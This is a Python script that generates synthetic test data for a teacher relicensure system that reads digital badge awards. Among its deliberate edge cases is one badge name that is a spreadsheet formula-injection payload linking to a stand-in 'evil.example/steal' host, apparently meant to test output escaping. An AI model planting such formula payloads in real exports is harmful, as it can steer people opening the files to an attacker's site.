#!/usr/bin/env python3
"""Writes a realistic, deterministic district scenario for the reliability harnesses.

    scripts/generate-scenario.py OUT [--educators N] [--awards N] [--seed S]

OUT gets:
  roster.csv          N educators: two districts, varied license terms, other e-mails,
                      inactive and advanced-license educators, a few without a term
  relicensure.yaml    the rules (DDOE, two external issuers with caps), without `database:`;
                      inbox, uploads and reports are ./inbox, ./uploads and ./reports
  nights.json         [{"as_of": "YYYY-MM-DD", "folder": "nights/1"}, ...]
  nights/1/           the first night's new files: inbox/ and uploads/
  nights/2/           the second night's: a late BadgeClass, revocations, more awards, a
                      copy of a file seen before

Awards come in every shape the nightly job reads: single JSON assertions, .jsonl bundles
(each with one bad line), baked PNGs, .jwt tokens, baked SVGs, external badges with embedded
BadgeClass and issuer, plain and hashed recipients, strangers, future and old dates, repeated
credentials, an award whose BadgeClass arrives a night late, uploads, broken files, and a
badge name that a spreadsheet would run as a formula. The same arguments write the same bytes.
Python 3 standard library only.
"""
import argparse
import base64
import importlib.util
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("examples", os.path.join(HERE, "make-examples.py"))
examples = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(examples)

DDOE, DDOE_BADGE, NEA, DP = examples.DDOE, examples.DDOE_BADGE, examples.NEA, examples.DP
NIGHTS = ["2026-11-20", "2026-11-21"]
LATE_SLUG = "assessment-literacy"
FORMULA_SLUG = "spreadsheet-skills"
FORMULA_NAME = '=HYPERLINK("https://evil.example/steal","Spreadsheet Skills")'
RULES = f"""# A generated district scenario for scripts/crash-harness (see docs/RELIABILITY.md).
inbox: ./inbox
uploads: ./uploads
reports: ./reports
state:
  time_zone: "America/New_York"
  required_hours: 90
ddoe:
  hours_per_credential: 10
  issuers:
    - "{DDOE}"
districts:
  - code: "31"
    name: "Red Clay Consolidated School District"
    external_cap: 45
    issuers:
      - id: "{NEA}"
        name: "National Education Association"
        hours: 10
        approval: per-educator
      - id: "{DP}"
        name: "Digital Promise"
        hours: 7.5
        approval: none
        cap: 15
  - code: "33"
    name: "Christina School District"
"""


class Scenario:
    def __init__(self, out, educators, awards, seed):
        self.out = out
        self.count = awards
        self.random = random.Random(seed)
        self.roster = self.make_roster(educators)
        self.slugs = [slug for slug, _ in examples.DDOE_BADGES] + [f"generated-{k:02d}" for k in range(24)]
        self.serial = 0
        self.credited = []  # award ids likely credited on night 1, for night 2's revocations

    def write(self, relative, data):
        path = os.path.join(self.out, relative)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode("utf-8"))

    def make_roster(self, n):
        rows = []
        for i in range(n):
            first = examples.FIRST[i % len(examples.FIRST)]
            last = examples.LAST[(i * 7) % len(examples.LAST)]
            district = "31" if i % 3 else "33"
            start, end = ("2022-07-01", "2027-06-30") if i % 4 else ("2024-01-01", "2028-12-31")
            if i % 97 == 5:
                start = end = ""
            rows.append({
                "educator_id": "%07d" % (100000 + i * 13), "first_name": first, "last_name": last,
                "email": f"{first.lower()}.{last.lower()}.{i}@k12.de.us",
                "other_emails": f"{first.lower()}{i}@gmail.com" if i % 5 == 0 else "",
                "district_code": district, "school_code": district + "0" + str(i % 4 + 1),
                "school_name": f"School {district}-{i % 4 + 1}",
                "license_type": "advanced" if i % 151 == 7 else "continuing",
                "license_start": start, "license_end": end,
                "status": "inactive" if i % 89 == 3 else "active"})
        return rows

    def roster_csv(self):
        columns = list(self.roster[0].keys())
        lines = [",".join(columns)] + [",".join(row[c] for c in columns) for row in self.roster]
        return "\r\n".join(lines) + "\r\n"

    def recipient(self):
        r = self.random.random()
        if r < 0.03:
            return examples.plain(f"stranger{self.random.randrange(10**6)}@example.org")
        educator = self.random.choice(self.roster)
        email = educator["email"]
        if r < 0.10 and educator["other_emails"]:
            return examples.plain(educator["other_emails"])
        if r < 0.20:
            return examples.plain(email.upper())
        if r < 0.30:
            salt = f"s{self.random.randrange(1000)}"
            return {"type": "email", "hashed": True, "salt": salt, "identity": examples.hashed(email, salt)}
        if r < 0.35:
            return {"type": "email", "hashed": True, "identity": examples.hashed(email)}
        return examples.plain(email)

    def issued_on(self):
        r = self.random.random()
        if r < 0.03:
            return "2027-01-15T12:00:00Z"  # future_dated
        if r < 0.06:
            return "2020-03-02T12:00:00Z"  # outside_license_term
        day = self.random.randrange(0, 600)
        month, dom = 1 + (day // 28) % 12, 1 + day % 28
        year = 2025 if day < 336 else 2026
        return f"{year}-{month:02d}-{dom:02d}T{self.random.randrange(24):02d}:15:00Z"

    def ddoe_assertion(self, slug=None):
        self.serial += 1
        return examples.assertion(f"sc-{self.serial:06d}", self.recipient(), DDOE_BADGE + (slug or self.random.choice(self.slugs)),
                                  self.issued_on())

    def external_assertion(self):
        self.serial += 1
        issuer = self.random.choice([
            {"id": NEA, "type": "Issuer", "name": "National Education Association", "url": "https://www.nea.org"},
            {"id": DP, "type": "Issuer", "name": "Digital Promise", "url": "https://digitalpromise.org"}])
        k = self.random.randrange(6)
        badge = issuer["id"].replace("/issuers/", "/badges/") + f"-{k}"
        return {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion",
                "id": issuer["id"].replace("/issuers/", "/assertions/") + f"/x-{self.serial:06d}",
                "recipient": self.recipient(), "issuedOn": self.issued_on(), "verification": {"type": "hosted"},
                "badge": {"id": badge, "type": "BadgeClass", "name": f"External Badge {k}", "issuer": issuer,
                          "criteria": {"narrative": "Met the rubric."}, "image": badge + "/image"}}

    @staticmethod
    def jwt(payload):
        def b64(data):
            return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
        header = b64(json.dumps({"alg": "RS256", "typ": "JWT"}).encode())
        return f"{header}.{b64(json.dumps(payload).encode())}.{b64(b'not-checked-for-inbox-files')}\n"

    @staticmethod
    def svg(document):
        return ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" width="10" height="10">'
                f'<openbadges:assertion verify="{document["id"]}"><![CDATA[{json.dumps(document)}]]>'
                '</openbadges:assertion></svg>\n')

    def awards(self, night, count):
        """`count` awards in every shape, under nights/NIGHT/."""
        base = f"nights/{night}"
        bundle = []
        for n in range(count):
            shape = self.random.random()
            if shape < 0.45:
                bundle.append(json.dumps(self.ddoe_assertion()))
                if len(bundle) == 250:
                    self.flush_bundle(base, bundle)
            elif shape < 0.75:
                document = self.ddoe_assertion()
                self.credited.append(document["id"])
                self.write(f"{base}/inbox/ddoe/{n // 200:03d}/{document['id'].rsplit('/', 1)[1]}.json",
                           examples.dumps(document))
            elif shape < 0.82:
                document = self.ddoe_assertion()
                self.write(f"{base}/inbox/baked/{document['id'].rsplit('/', 1)[1]}.png",
                           examples.png_with_itxt("openbadges", json.dumps(document)))
            elif shape < 0.87:
                document = self.ddoe_assertion()
                self.write(f"{base}/inbox/signed/{document['id'].rsplit('/', 1)[1]}.jwt", self.jwt(document))
            elif shape < 0.89:
                document = self.ddoe_assertion()
                self.write(f"{base}/inbox/baked/{document['id'].rsplit('/', 1)[1]}.svg", self.svg(document))
            elif shape < 0.98:
                document = self.external_assertion()
                self.write(f"{base}/inbox/external/{document['id'].rsplit('/', 1)[1]}.json", examples.dumps(document))
            else:
                document = self.ddoe_assertion()
                self.write(f"{base}/uploads/{document['id'].rsplit('/', 1)[1]}.json", examples.dumps(document))
        if bundle:
            self.flush_bundle(base, bundle)

    def flush_bundle(self, base, bundle):
        self.serial += 1
        bundle.insert(len(bundle) // 2, '{"type": "Assertion", "id": "broken line')
        self.write(f"{base}/inbox/bundles/export-{self.serial:06d}.jsonl", "\n".join(bundle) + "\n")
        bundle.clear()

    def night_one(self):
        self.write("nights/1/inbox/ddoe/issuer.json", examples.dumps(examples.ddoe_issuer()))
        for slug, name in examples.DDOE_BADGES + [(s, f"Generated Micro-credential {s[-2:]}") for s in self.slugs[6:]]:
            self.write(f"nights/1/inbox/ddoe/badgeclasses/{slug}.json", examples.dumps(examples.ddoe_badge_class(slug, name)))
        self.write(f"nights/1/inbox/ddoe/badgeclasses/{FORMULA_SLUG}.json",
                   examples.dumps(examples.ddoe_badge_class(FORMULA_SLUG, FORMULA_NAME)))
        for _ in range(5):
            self.write(f"nights/1/inbox/ddoe/formula-{self.serial + 1}.json",
                       examples.dumps(self.ddoe_assertion(FORMULA_SLUG)))
        for _ in range(20):  # their BadgeClass arrives on night 2: unresolved, then credited
            self.write(f"nights/1/inbox/ddoe/late-{self.serial + 1}.json", examples.dumps(self.ddoe_assertion(LATE_SLUG)))
        self.awards(1, int(self.count * 0.85))
        self.write("nights/1/inbox/broken/truncated.json", '{"@context": "https://w3id.org/openbadges/v2", "type": "Assert')
        self.write("nights/1/inbox/broken/empty.json", "")
        self.write("nights/1/inbox/README.txt", "Exports from the issuing platforms land here.\n")

    def night_two(self):
        self.write(f"nights/2/inbox/ddoe/badgeclasses/{LATE_SLUG}.json",
                   examples.dumps(examples.ddoe_badge_class(LATE_SLUG, "Assessment Literacy")))
        for award_id in self.random.sample(self.credited, min(25, len(self.credited))):
            self.write(f"nights/2/inbox/revocations/{award_id.rsplit('/', 1)[1]}.json",
                       examples.dumps({"id": award_id, "revoked": True, "revocationReason": "Awarded in error"}))
        self.awards(2, self.count - int(self.count * 0.85))
        # The same bytes under a new name are not read again.
        self.write("nights/2/inbox/copy-of-issuer.json", examples.dumps(examples.ddoe_issuer()))

    def generate(self):
        self.write("roster.csv", self.roster_csv())
        self.write("relicensure.yaml", RULES)
        self.night_one()
        self.night_two()
        nights = [{"as_of": day, "folder": f"nights/{k + 1}"} for k, day in enumerate(NIGHTS)]
        self.write("nights.json", json.dumps(nights, indent=2) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", help="the folder to write (created; existing files are overwritten)")
    parser.add_argument("--educators", type=int, default=1500, help="roster size (default 1500)")
    parser.add_argument("--awards", type=int, default=3000, help="awards over both nights (default 3000)")
    parser.add_argument("--seed", type=int, default=6, help="random seed (default 6)")
    args = parser.parse_args()
    if args.educators < 10 or args.awards < 10:
        sys.exit("generate-scenario: at least 10 educators and 10 awards")
    Scenario(args.out, args.educators, args.awards, args.seed).generate()


if __name__ == "__main__":
    main()
